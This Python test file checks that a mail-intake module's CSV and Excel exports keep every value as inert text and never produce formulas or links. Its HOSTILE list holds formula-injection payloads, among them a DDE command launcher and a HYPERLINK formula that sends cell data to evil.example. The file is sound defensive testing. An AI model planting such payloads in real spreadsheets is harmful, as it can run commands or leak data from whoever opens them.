"""Tables to take away: whatever a mail says stays text, in Excel and in CSV."""

import csv
import io
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from intake.outbox.sheets import ACTS, Cell, guarded, plain, write_csv, write_xlsx

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+32 2 209 92 11",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u200f=1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"Ada")',
    "https://evil.example/",
    "file:///etc/passwd",
    "mailto:x@example.org",
    "{=1}",
    'a","b\n=1',
    "\ud800",
    "\x00\x1b[31m",
    "x" * 40_000,
    "Zoë O’Néill",
    "李小龙",
]
FOREIGN = st.text(st.characters(), max_size=60) | st.builds(
    lambda start, text: start + text, st.sampled_from(ACTS), st.text(max_size=20)
)


def as_csv(*texts: str) -> bytes:
    made = io.BytesIO()
    write_csv(["Name"] * len(texts), [texts], made)
    return made.getvalue()


def cells_of(*row: Cell) -> list[object]:
    made = io.BytesIO()
    write_xlsx(["Heading"] * len(row), [row], made, "Title")
    [sheet] = load_workbook(made).worksheets
    found = next(iter(sheet.iter_rows(min_row=2)))
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in found)
    return [cell.value for cell in found]


@given(st.lists(FOREIGN, min_size=1, max_size=5))
def test_no_field_of_csv_begins_what_a_spreadsheet_would_reckon(texts: list[str]) -> None:
    for given_text, field in zip(texts, _fields(as_csv(*texts)), strict=True):
        assert field in (plain(given_text), "'" + plain(given_text))
        assert not field.lstrip().startswith(ACTS)
        assert field.isprintable() or "\u200c" in field or "\u200d" in field


def _fields(made: bytes) -> list[str]:
    heading, row = csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""))
    assert set(heading) == {"Name"}
    return row


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("=1+1", "'=1+1"),
        ("+32 2", "'+32 2"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'x"),
        ("\rx", "'x"),
        ("\nx", "'x"),
        (" \u00a0=x", "'=x"),
        ("\u202e=x", "'=x"),
        ("a=b", "a=b"),
        ("Ada\nLovelace", "Ada Lovelace"),
        ("", ""),
    ],
)
def test_the_quote_stands_before_what_acts_and_nothing_else(text: str, told: str) -> None:
    assert guarded(text) == told


def test_csv_is_utf_8_with_its_mark_and_every_field_is_quoted() -> None:
    made = io.BytesIO()
    write_csv(["Nom", "Reçue"], [['Zoë "Z"', datetime(2026, 2, 8, 23, 59)], ["b", 3]], made)
    lines = made.getvalue().removeprefix(b"\xef\xbb\xbf").decode().split("\r\n")
    assert made.getvalue().startswith(b"\xef\xbb\xbf")
    assert lines == ['"Nom","Reçue"', '"Zoë ""Z""","2026-02-08 23:59:00"', '"b","3"', ""]


def test_no_cell_of_xlsx_is_a_formula_or_a_link() -> None:
    for text, cell in zip(HOSTILE, cells_of(*HOSTILE), strict=True):
        assert (cell or "") == plain(text), text


@given(FOREIGN)
def test_any_text_comes_back_from_xlsx_as_it_is_told(text: str) -> None:
    first, last = cells_of(text, "last")
    assert (first or "", last) == (plain(text), "last")


def test_a_moment_is_one_in_excel_too() -> None:
    assert cells_of(datetime(2026, 2, 8, 23, 59), 7) == [datetime(2026, 2, 8, 23, 59), 7]


def test_a_queue_without_anybody_has_its_heading() -> None:
    made = io.BytesIO()
    write_xlsx(["Name", "E-mail"], [], made, "Title")
    [sheet] = load_workbook(made).worksheets
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Name", "E-mail"]]
